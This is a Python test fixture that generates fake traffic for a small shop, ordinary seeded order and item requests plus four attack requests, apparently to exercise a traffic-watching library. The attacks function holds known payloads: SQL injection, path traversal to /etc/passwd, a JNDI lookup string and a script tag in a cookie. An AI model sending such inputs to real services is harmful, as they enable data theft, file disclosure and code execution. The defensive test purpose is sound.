"""Made-up traffic of a small shop, for tests that need no real data."""

from __future__ import annotations

import random

from apiwatch import Request

NAMES = ("anna", "bertha", "carlos", "dora", "emil", "frieda", "georg", "hanna")


def usual(count: int, seed: int = 0) -> list[Request]:
    dice = random.Random(seed)
    return [_usual(dice) for _ in range(count)]


def _usual(dice: random.Random) -> Request:
    user = dice.choice(NAMES) + str(dice.randrange(100))
    headers = (("User-Agent", "shop/1"), ("Cookie", f"sid={dice.randrange(10**6):06d}"))
    if dice.random() < 0.5:
        target = f"/items/{dice.randrange(500)}?sort={dice.choice(('asc', 'desc'))}"
        return Request(method="GET", target=target, headers=headers)
    body = f'{{"user": "{user}", "amount": {dice.randrange(1, 99)}}}'
    return Request(method="POST", target="/orders", headers=headers, body=body)


def attacks() -> list[Request]:
    sid = ("Cookie", "sid=000001")
    agent = ("User-Agent", "shop/1")
    return [
        Request(method="GET", target="/items/1?sort=asc'%20or%201=1--", headers=(agent, sid)),
        Request(method="GET", target="/items/../../etc/passwd", headers=(agent, sid)),
        Request(
            method="POST",
            target="/orders",
            headers=(agent, sid),
            body='{"user": "${jndi:ldap://x}", "amount": 1}',
        ),
        Request(
            method="GET",
            target="/items/17?sort=asc",
            headers=(agent, ("Cookie", "sid=<script>alert(1)</script>")),
        ),
    ]
